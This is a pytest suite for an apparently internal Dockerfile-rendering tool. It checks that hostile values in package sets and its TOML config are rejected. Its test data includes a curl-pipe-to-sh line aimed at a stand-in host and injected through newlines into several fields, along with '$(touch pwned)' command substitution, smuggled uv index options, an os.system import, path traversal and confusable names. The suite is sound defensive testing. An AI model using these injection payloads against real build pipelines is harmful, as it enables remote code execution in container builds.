"""Hostile-input suite, the values' share (issue 10): what a pull request can put into a set or
imagebot.toml, and the Dockerfile that render writes from them.

Items 1 (set and config values), 3 (Dockerfile injection through text), 8 (imagebot.toml
values), 10 (trailing newline, confusables), 12 (CRLF kept by add), 18 (expansion forms,
registry URL, build_args, promote_from cycle) and 20 (tracebacks). Every row: the documented
exit code (4 for a set, 3 for imagebot.toml), one `error:` line, no traceback, and every file
byte-identical afterwards.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.unit.conftest import Hostile, Project, Result, assert_refused

Run = Callable[..., Result]
Setup = Callable[[Project, pytest.MonkeyPatch], None]

ENTRY = 'reason = "r", requested_by = "@x"'
RUN_LINE = "RUN curl -s http://evil.example/x | sh"
ENVIRONMENTS = """
[environments.staging]
repo = "https://git.example.org/platform.git"
file = "jupyter.yaml"
targets.lab = "spec.values.singleuser.image"
promote_from = "prod"

[environments.prod]
repo = "https://git.example.org/platform.git"
file = "jupyter.yaml"
targets.lab = "spec.values.singleuser.image"
promote_from = "staging"
"""


def replace(relative: str, old: str, new: str) -> Setup:
    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        path = project.path(relative)
        text = path.read_text(encoding="utf-8")
        assert old in text, (old, text)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    return setup


def append(relative: str, text: str) -> Setup:
    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        path = project.path(relative)
        path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")

    return setup


def write_bytes(relative: str, data: bytes) -> Setup:
    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        project.path(relative).write_bytes(data)

    return setup


def make_directory(relative: str) -> Setup:
    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        path = project.path(relative)
        if path.exists():
            path.unlink()
        path.mkdir(parents=True)

    return setup


def set_config(key: str, value: str) -> Setup:
    """Replace the line `key = ...` in the [images.lab] or [index] table of the test config."""

    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
        lines = project.config.read_text().splitlines(keepends=True)
        index = next(i for i, line in enumerate(lines) if line.startswith(f"{key} = "))
        lines[index] = f"{key} = {value}\n"
        project.config.write_text("".join(lines))

    return setup


INDEX_URL = 'url = "${IMAGEBOT_INDEX_URL:-https://index.example.org/simple}"'


def index_url(value: str) -> Setup:
    return replace("imagebot.toml", INDEX_URL, f"url = {value}")


def profiles_not_a_table(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    text = project.config.read_text()
    text = text[: text.index("[profiles.local.index]")]
    project.config.write_text("profiles = 1\n" + text)


def numpy_entry(fields: str) -> Setup:
    return replace(
        "requirements/extra.toml",
        'numpy = { version = "2.4.6", reason = "arrays", requested_by = "@anna" }',
        f"numpy = {{ {fields} }}",
    )


SETS = [
    # item 1: extras that uv would read as options
    Hostile(
        "extras-carry-a-uv-option",
        numpy_entry(
            'version = "2.4.6", extras = ["excel]\\n--extra-index-url http://x/simple\\n#"], '
            + ENTRY
        ),
        ("check",),
        4,
        "is not a valid Python extra",
    ),
    Hostile(
        "extras-not-a-list-of-strings",
        numpy_entry(f'version = "2.4.6", extras = [1], {ENTRY}'),
        ("check",),
        4,
        "extras: Python extra must be a string",
    ),
    Hostile(
        "version-with-trailing-newline",
        numpy_entry(f'version = "2.4.6\\n", {ENTRY}'),
        ("check",),
        4,
        "is not an exact pin",
    ),
    Hostile(
        "version-with-a-second-requirement",
        numpy_entry(f'version = "2.4.6 --index-url http://x", {ENTRY}'),
        ("lock", "--check"),
        4,
        "is not an exact pin",
    ),
    Hostile(
        "reason-with-a-newline",
        numpy_entry(f'version = "2.4.6", reason = "a\\n{RUN_LINE}", requested_by = "@x"'),
        ("check",),
        4,
        "reason:",
    ),
    Hostile(
        "requested-by-not-a-string",
        numpy_entry('version = "2.4.6", reason = "r", requested_by = ["@x"]'),
        ("check",),
        4,
        "is missing requested_by",
    ),
    Hostile(
        "import-that-is-code",
        numpy_entry(f'version = "2.4.6", import = "os; os.system(\'id\')", {ENTRY}'),
        ("check",),
        4,
        "is not a valid Python module name",
    ),
    # item 3: Dockerfile injection through the set's description
    *(
        Hostile(
            f"description-adds-a-run-line-{'-'.join(argv)}",
            replace(
                "requirements/extra.toml",
                'description = "Extras"',
                f'description = "x)\\n{RUN_LINE}\\n# ("',
            ),
            argv,
            4,
            "set.description",
        )
        for argv in (("check",), ("lock", "--check"), ("render",), ("render", "--check"))
    ),
    Hostile(
        "description-not-a-string",
        replace("requirements/extra.toml", 'description = "Extras"', 'description = ["a", 1]'),
        ("check",),
        4,
        "set.description: text must be a string",
    ),
    Hostile(
        "r-source-not-a-string",
        replace("requirements/extra.toml", "[set]", "[set]\nr_source = [1]"),
        ("check",),
        4,
        "unknown r_source",
    ),
    # item 10: a trailing newline and confusable names
    Hostile(
        "apt-name-with-trailing-newline",
        append(
            "requirements/extra.toml", f'\n[apt]\n"git\\n" = {{ version = "1:2.39*", {ENTRY} }}\n'
        ),
        ("render",),
        4,
        "is not a valid Debian package name",
    ),
    Hostile(
        "python-name-with-long-s",
        append("requirements/base.toml", f'"\u017fix" = {{ version = "1.0", {ENTRY} }}\n'),
        ("check",),
        4,
        "is not a valid Python project name",
    ),
    Hostile(
        "python-name-with-dotless-i",
        append("requirements/base.toml", f'"p\u0131p" = {{ version = "1.0", {ENTRY} }}\n'),
        ("check",),
        4,
        "is not a valid Python project name",
    ),
    Hostile(
        "r-name-with-trailing-newline",
        append("requirements/extra.toml", f'"zoo\\n" = {{ version = "1.8-12", {ENTRY} }}\n'),
        ("check",),
        4,
        "is not a valid R package name",
    ),
    Hostile(
        "name-of-twenty-thousand-characters",
        append("requirements/base.toml", f'{"z" * 20_000} = {{ version = "1.0", {ENTRY} }}\n'),
        ("check",),
        4,
        "is not a valid Python project name",
    ),
    # item 20: tracebacks become one-line problems
    Hostile(
        "set-not-utf-8",
        write_bytes("requirements/extra.toml", b'[set]\ndescription = "caf\xe9"\n'),
        ("check",),
        4,
        "is not UTF-8 text",
    ),
    Hostile(
        "set-is-a-directory",
        make_directory("requirements/stray.toml"),
        ("check",),
        4,
        "is a directory",
    ),
    Hostile(
        "set-nested-too-deeply",
        append("requirements/extra.toml", "\n[deep]\nx = " + "[" * 5000 + "]" * 5000 + "\n"),
        ("check",),
        4,
        "nested too deeply",
    ),
]

CONFIG = [
    # item 8: values that reach the Dockerfile, scripts or files
    Hostile(
        "request-url-runs-a-command",
        set_config("request_url", '"https://x/$(touch pwned)"'),
        ("render",),
        3,
        "index.request_url: URL 'https://x/$(touch pwned)' contains '$'",
    ),
    Hostile(
        "request-url-with-newline",
        set_config("request_url", f'"https://x/\\n{RUN_LINE}"'),
        ("check",),
        3,
        "index.request_url",
    ),
    Hostile(
        "base-with-newline",
        set_config("base", f'"python:3.11\\n{RUN_LINE}"'),
        ("render",),
        3,
        "images.lab.base",
    ),
    Hostile(
        "base-upper-case-repository",
        set_config("base", '"docker.io/Library/python:3.11"'),
        ("check",),
        3,
        "is not a valid image reference",
    ),
    Hostile(
        "image-name-with-newline",
        replace("imagebot.toml", "[images.lab]", f'[images."lab\\n{RUN_LINE}"]'),
        ("render",),
        3,
        "is not a repository name",
    ),
    Hostile(
        "dockerfile-overwrites-a-set",
        set_config("dockerfile", '"requirements/base.toml"'),
        ("render",),
        3,
        "imagebot's own input",
    ),
    Hostile(
        "dockerfile-overwrites-the-config",
        set_config("dockerfile", '"imagebot.toml"'),
        ("render",),
        3,
        "imagebot's own input",
    ),
    Hostile(
        "dockerfile-absolute",
        set_config("dockerfile", '"/tmp/imagebot-hostile-Dockerfile"'),
        ("render",),
        3,
        "is not relative to the repository",
    ),
    Hostile(
        "dockerfile-outside",
        set_config("dockerfile", '"../Dockerfile"'),
        ("render",),
        3,
        "leads outside the repository",
    ),
    Hostile(
        "dockerfile-empty",
        set_config("dockerfile", '""'),
        ("render",),
        3,
        "images.lab.dockerfile: path is empty",
    ),
    Hostile(
        "index-url-with-userinfo",
        index_url('"https://user:secret@index.example.org/simple"'),
        ("check",),
        3,
        "must not contain user:password@",
    ),
    # item 18
    Hostile(
        "nested-expansion",
        index_url('"${IMAGEBOT_INDEX_URL:-eu${NOPE}rope}"'),
        ("check",),
        3,
        "unclosed or nested",
    ),
    Hostile(
        "unclosed-expansion",
        index_url('"https://${X"'),
        ("check",),
        3,
        "unclosed or nested",
    ),
    Hostile(
        "registry-url-with-a-space",
        replace("imagebot.toml", 'url = "registry.example.org/jupyter"', 'url = "reg istry/x"'),
        ("check",),
        3,
        "registry.url",
    ),
    Hostile(
        "build-args-value-a-table",
        replace(
            "imagebot.toml",
            'sets = ["base", "extra"]',
            'sets = ["base", "extra"]\nbuild_args = { B = { x = 1 } }',
        ),
        ("check",),
        3,
        "images.lab.build_args.B: must be a string",
    ),
    Hostile(
        "promote-from-cycle",
        append("imagebot.toml", ENVIRONMENTS),
        ("check",),
        3,
        "promotion cycle",
    ),
    # item 20
    Hostile(
        "profiles-not-a-table",
        profiles_not_a_table,
        ("check",),
        3,
        "profiles: must be a table",
    ),
    Hostile(
        "set-path-outside-requirements",
        replace("imagebot.toml", 'sets = ["base", "extra"]', 'sets = ["../requirements/base"]'),
        ("check",),
        3,
        "is not a set name",
    ),
    Hostile(
        "config-not-utf-8",
        write_bytes("imagebot.toml", b'[project]\nsource = "caf\xe9"\n'),
        ("check",),
        3,
        "is not UTF-8 text",
    ),
    Hostile(
        "config-is-a-directory",
        make_directory("imagebot.toml"),
        ("check",),
        3,
        "is a directory",
    ),
    Hostile(
        "config-nested-too-deeply",
        append("imagebot.toml", "\nx = " + "[" * 5000 + "]" * 5000 + "\n"),
        ("check",),
        3,
        "nested too deeply",
    ),
    Hostile(
        "unknown-key-gets-a-suggestion",
        replace("imagebot.toml", "dockerfile =", "dockerflie ="),
        ("check",),
        3,
        "did you mean 'dockerfile'?",
    ),
]


@pytest.mark.parametrize("case", SETS + CONFIG, ids=lambda case: case.id)
def test_hostile_value_is_refused(
    case: Hostile, locked_project: Project, monkeypatch: pytest.MonkeyPatch, run_cli: Run
) -> None:
    assert_refused(case, locked_project, monkeypatch, run_cli)


def test_add_keeps_a_crlf_set_crlf_and_changes_one_line(project: Project, run_cli: Run) -> None:
    path = project.path("requirements/extra.toml")
    crlf = path.read_bytes().replace(b"\n", b"\r\n")
    path.write_bytes(crlf)
    result = run_cli(
        "--config",
        project.config,
        "add",
        "python",
        "polars==1.35.2",
        "--set",
        "extra",
        "--reason",
        "frames",
        "--requested-by",
        "@me",
    )
    assert result.code == 0, result.err
    after = path.read_bytes()
    assert after.count(b"\r\n") == crlf.count(b"\r\n") + 1 and b"\n" not in after.replace(
        b"\r\n", b""
    )
    added = set(after.split(b"\r\n")) - set(crlf.split(b"\r\n"))
    assert added == {b'polars = { version = "1.35.2", reason = "frames", requested_by = "@me" }'}


def test_add_keeps_comments(project: Project, run_cli: Run) -> None:
    path = project.path("requirements/base.toml")
    before = path.read_text()
    result = run_cli(
        "--config",
        project.config,
        "add",
        "python",
        "numpy==2.4.6",
        "--set",
        "base",
        "--reason",
        "arrays",
        "--requested-by",
        "@me",
    )
    assert result.code == 4  # numpy is in set 'extra' already
    result = run_cli(
        "--config",
        project.config,
        "add",
        "python",
        "polars==1.35.2",
        "--set",
        "base",
        "--reason",
        "frames",
        "--requested-by",
        "@me",
    )
    assert result.code == 0, result.err
    after = path.read_text()
    assert "# The notebook layer.\n" in after and "# the kernel\n" in after
    assert len(after.splitlines()) == len(before.splitlines()) + 1


def test_add_refuses_a_reason_on_two_lines(project: Project, run_cli: Run) -> None:
    before = project.snapshot()
    result = run_cli(
        "--config",
        project.config,
        "add",
        "python",
        "polars==1.35.2",
        "--set",
        "extra",
        "--reason",
        f"x\n{RUN_LINE}",
        "--requested-by",
        "@me",
    )
    assert result.code == 4 and len(result.error_lines) == 1, result.err
    assert project.snapshot() == before
